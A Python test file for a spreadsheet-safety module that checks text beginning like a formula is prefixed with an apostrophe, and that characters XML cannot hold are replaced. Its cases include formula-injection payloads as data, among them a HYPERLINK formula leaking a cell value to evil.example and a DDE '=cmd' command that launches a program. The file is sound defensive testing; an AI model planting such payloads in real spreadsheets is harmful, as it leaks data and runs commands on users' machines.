"""safe_cell: text a spreadsheet would read as a formula is written as text; strip_guard undoes it."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hubtui.domain.spreadsheet_text import needs_guard, safe_cell, strip_guard

# Written out by hand, not computed with the module: what each text becomes in a cell.
CASES = [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"),
    ("=1+1", "'=1+1"),
    ("+44 7700 900123", "'+44 7700 900123"),
    ("-5 off", "'-5 off"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=cmd|' /C calc'!A0", "'\t=cmd|' /C calc'!A0"),
    ("\r=1", "'\r=1"),
    ("＝1+1", "'＝1+1"),
    ("＋1", "'＋1"),
    ("－1", "'－1"),
    ("＠SUM(A1)", "'＠SUM(A1)"),
    ("_x003D_1+1", "'_x003D_1+1"),  # Excel decodes _x003D_ into "="
    ("_x003d_1+1", "'_x003d_1+1"),
    ("'=1+1", "''=1+1"),  # guarded by someone already: guarded again, so the import gives it back as it was
    ("''-1", "'''-1"),
    # Left alone:
    ("O'Brien", "O'Brien"),
    ("'Tis the season", "'Tis the season"),
    ("'", "'"),
    ("", ""),
    ("Amelia Edwards", "Amelia Edwards"),
    ("a=b", "a=b"),
    (" =1", " =1"),
    ("_x003_short", "_x003_short"),
    ("_underscore", "_underscore"),
    ("ＡＢＣ", "ＡＢＣ"),
    ("\n=1", "\n=1"),  # a line feed is not among the starts a spreadsheet reads as a formula
]


@pytest.mark.parametrize(("text", "written"), CASES, ids=[repr(c[0])[:24] for c in CASES])
def test_what_a_spreadsheet_would_read_as_a_formula_is_guarded(text: str, written: str) -> None:
    assert safe_cell(text) == written
    assert strip_guard(written) == text


@pytest.mark.parametrize(("raw", "written"), [
    ("bell\x07here", "bell\ufffdhere"),
    ("nul\x00", "nul\ufffd"),
    ("\x1b[31mred", "\ufffd[31mred"),
    ("tab\tnew\nline\rcr", "tab\tnew\nline\rcr"),  # XML holds these
    ("\ufffe\uffff", "\ufffd\ufffd"),
    ("lone \ud800 surrogate", "lone \ufffd surrogate"),
    ("\x01=1", "\ufffd=1"),  # the mark is not a formula start
])
def test_what_xml_cannot_hold_is_written_as_the_replacement_mark(raw: str, written: str) -> None:
    assert safe_cell(raw) == written


def test_strip_guard_leaves_text_from_elsewhere_alone() -> None:
    assert strip_guard("'Tis") == "'Tis"
    assert strip_guard("=1") == "=1"  # not ours to change: the import refuses or keeps it as it decides
    assert strip_guard("'") == "'"
    assert strip_guard("") == ""


XML_TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs",),
                                          blacklist_characters="\x00\x01\x02\x03\x04\x05\x06\x07\x08\x0b\x0c\x0e"
                                          "\x0f\x10\x11\x12\x13\x14\x15\x16\x17\x18\x19\x1a\x1b\x1c\x1d\x1e\x1f"
                                          "\ufffe\uffff"))
# Texts made of the characters the rule is about, so the edge cases come up often.
EDGY = st.text(alphabet=st.sampled_from(list("=+-@\t\r'_x03Dd\uff1d\uff0b\uff0d\uff20aO ")), max_size=12)


@given(st.one_of(XML_TEXT, EDGY))
def test_the_guard_is_undone_exactly_and_never_leaves_a_formula_start(text: str) -> None:
    written = safe_cell(text)
    assert strip_guard(written) == text
    # What a spreadsheet sees first is never a formula start, nor an escape it decodes into one.
    assert written[:1] not in set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
    assert written.startswith("'") or not needs_guard(written)
    assert safe_cell(written) in (written, "'" + written)  # guarding twice adds one apostrophe at most


@given(st.text())
def test_any_text_becomes_something_xml_can_hold(text: str) -> None:
    written = safe_cell(text)
    assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in written)
    assert not any(0xD800 <= ord(ch) <= 0xDFFF or ch in "\ufffe\uffff" for ch in written)
    assert written[:1] not in set("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
    assert len(written) in (len(text), len(text) + 1)
